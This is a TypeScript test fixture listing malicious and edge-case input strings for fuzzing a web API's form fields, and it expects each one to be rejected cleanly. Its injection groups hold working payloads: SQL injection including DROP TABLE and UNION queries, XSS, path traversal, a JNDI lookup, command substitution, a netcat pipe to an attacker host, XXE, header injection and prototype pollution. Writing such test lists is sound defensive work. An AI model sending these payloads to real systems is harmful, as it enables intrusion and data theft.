// Values an attacker (or an unlucky client) puts into a form field: our own
// list, grouped by what each group probes. Every entry is a fact about how
// parsers, databases and renderers misbehave, not a copy of a public list.
//
// The API must answer each of them in any field with a 4xx (or a 2xx when the
// value happens to be valid there), never a 5xx, and a refusal must change
// nothing.

/** Limits the API enforces (server/backend/api/schemas.ts, common/support-message.ts). */
export const LIMITS = {
  email: 254,
  password: 1024,
  comment: 5000,
  fullName: 200,
  phone: 32,
  requestText: 64,
  walletId: 64,
  address: 256,
  amount: 256,
  /** DEFAULT_MAX_BODY_BYTES in server/backend/api/handler.ts. */
  body: 16_384,
} as const;

const around = (n: number) => [n - 1, n, n + 1];

/** Strings right below, at and right above each field limit. */
function nearTheLimits(): string[] {
  const out: string[] = [];
  for (const n of around(LIMITS.email)) {
    const local = "a".repeat(Math.max(1, n - "@example.com".length));
    out.push(`${local}@example.com`);
  }
  for (const n of [...around(LIMITS.requestText), ...around(LIMITS.walletId), ...around(LIMITS.phone)]) {
    out.push("9".repeat(n));
  }
  for (const n of [...around(LIMITS.fullName), ...around(LIMITS.address), ...around(LIMITS.amount)]) {
    out.push("x".repeat(n));
  }
  for (const n of [...around(LIMITS.password), ...around(LIMITS.comment)]) out.push("p".repeat(n));
  // Over the body limit on its own: the answer is 413.
  out.push("b".repeat(LIMITS.body + 1));
  // The limit counts code points in PostgreSQL but UTF-16 units in JavaScript.
  out.push("😀".repeat(LIMITS.comment), "😀".repeat(LIMITS.fullName + 1), "é".repeat(LIMITS.email));
  return out;
}

export const NAUGHTY_GROUPS = {
  sqlInjection: [
    "'",
    "''",
    '"',
    "\\",
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    '"; DROP TABLE wallets; --',
    "1; DELETE FROM ledger_transfers",
    "' UNION SELECT password_hash, phrase_ciphertext FROM users --",
    "admin'--@example.com",
    "x@example.com' OR 'a'='a",
    "'); TRUNCATE withdrawals; --",
    "$1",
    "$$; SELECT pg_sleep(10); $$",
    "1' AND pg_sleep(10) IS NULL --",
    "E'\\x00'",
    "/**/OR/**/1=1",
    "%' --",
    "\\'; SELECT 1; --",
  ],
  prototypeKeys: [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "__lookupSetter__",
    "isPrototypeOf",
  ],
  formatStrings: [
    "%s%s%s%s",
    "%n%n%n%n",
    "%x%x%x",
    "%d",
    "{0}",
    "${7*7}",
    "{{7*7}}",
    "#{7*7}",
    "%(x)s",
    "%%",
  ],
  injection: [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\u0000.png",
    "file:///etc/passwd",
    "${jndi:ldap://x.invalid/a}",
    "${env:BACKEND_SECRET}",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| nc attacker.invalid 4444",
    '{"$gt": ""}',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "\r\nSet-Cookie: session=evil",
    "%0d%0aLocation:%20https://evil.invalid",
    '=HYPERLINK("https://evil.invalid")',
    "@SUM(1+1)",
  ],
  numbersAsStrings: [
    "0",
    "-0",
    "-1",
    "+1",
    "1e309",
    "-1e309",
    "1e-7",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "0b11",
    "0o7",
    "1_000",
    "1,5",
    "1.2.3",
    ".",
    "0.",
    ".5",
    "00000000000000000000000000000001",
    "9".repeat(31),
    "115792089237316195423570985008687907853269984665640564039457584007913129639936",
    "0.00001",
    "1.00000",
    "9007199254740993",
    "١٢٣", // Arabic-Indic digits
    "１２３", // full-width digits
    "٫5",
  ],
  whitespace: [
    "",
    " ",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\u00a0", // no-break space
    "\u2003", // em space
    "\u200b", // zero-width space
    "\u2028", // line separator
    "\u2029", // paragraph separator
    "\ufeff", // byte order mark
    "\u3000", // ideographic space
    "\u180e",
    " a@example.com ",
    "\ta@example.com\n",
  ],
  controlAndBroken: [
    "\u0000",
    "a\u0000b",
    "\u0000@example.com",
    "\u0001\u0002\u0003\u001b[31m",
    "\u007f",
    "\ud800", // a lone high surrogate
    "\udfff", // a lone low surrogate
    "a\ud83dz", // half an emoji
    "\ufffd",
    "\uffff",
    "\u{10ffff}",
  ],
  unicode: [
    "\u202egnp.exe", // right-to-left override
    "\u202dabc\u202c",
    "\u2066isolate\u2069",
    "Z̴̡̪̫̖̥̔̿̃̈̏̎͠͝á̸̪̠̖̻̬̖̪̞͙͇̮̠̱̆̋́̐̀̚͜l̶̢̢̛̝̣̭̪̙̺̜͕̹̼̟̪̑̈́̌̅͊̊̿̃͝͝g̷̨̛̥̼̗̙̬͍̖̱̙̬͚̦͕͇̈́̽̈́̔̒̆̀̐͛̓̽͘͠ǫ̷̛̛̬̝̯̞̖̗̬͍̦̜͖̤̇̿̈́͂̈́̃͑̎͂̒̌̚",
    "😀",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇬🇧",
    "ﷺ",
    "𝕒𝕓𝕔",
    "Ⅻ",
    "ß",
    "İ", // lower-cases to two code points
    "ﬀ",
    "田中太郎",
    "مرحبا",
    "שָׁלוֹם",
    "Ω≈ç√∫",
  ],
  homoglyphEmails: [
    "аlice@example.com", // Cyrillic а
    "alice@exаmple.com", // Cyrillic а in the domain
    "ALICE@EXAMPLE.COM",
    "alice@example.com.",
    "alice@xn--exmple-cua.com",
    "alice@ex\u200bample.com",
    "alice@example.com\u0000",
    "alice+tag@example.com",
    '"alice"@example.com',
    "alice@[127.0.0.1]",
    "alice@localhost",
    "alice@@example.com",
    "alice@example..com",
    ".alice@example.com",
    "alice@ｅｘａｍｐｌｅ.com",
    "a@b.c",
    "@example.com",
    "alice@",
  ],
  nearTheLimits: nearTheLimits(),
} as const satisfies Record<string, readonly string[]>;

export const NAUGHTY_STRINGS: readonly string[] = Object.values(NAUGHTY_GROUPS).flat();

/** Values that are not strings, for fields that expect one (and the reverse). */
export const NAUGHTY_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  1.5,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  -Number.MAX_VALUE,
  [],
  [""],
  [null],
  ["abandon"],
  Array.from({ length: 12 }, () => "abandon"),
  Array.from({ length: 65 }, () => "abandon"),
  {},
  { $gt: "" },
  JSON.parse('{"__proto__":{"isAdmin":true}}') as unknown,
  { toString: "x" },
  [[[[[[[[[[[]]]]]]]]]]],
];

/**
 * JSON texts that JSON.stringify cannot produce: numbers out of double range,
 * and keys spelled the way prototype pollution needs them.
 */
export const NAUGHTY_RAW_VALUES: readonly string[] = [
  "1e309",
  "-1e309",
  "1e-400",
  "123456789012345678901234567890123456789",
  "-0",
  "0.1e1",
  "1E+2",
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '"\\ud800"',
  '"\\u0000"',
  '"\\udfff\\ud800"',
];
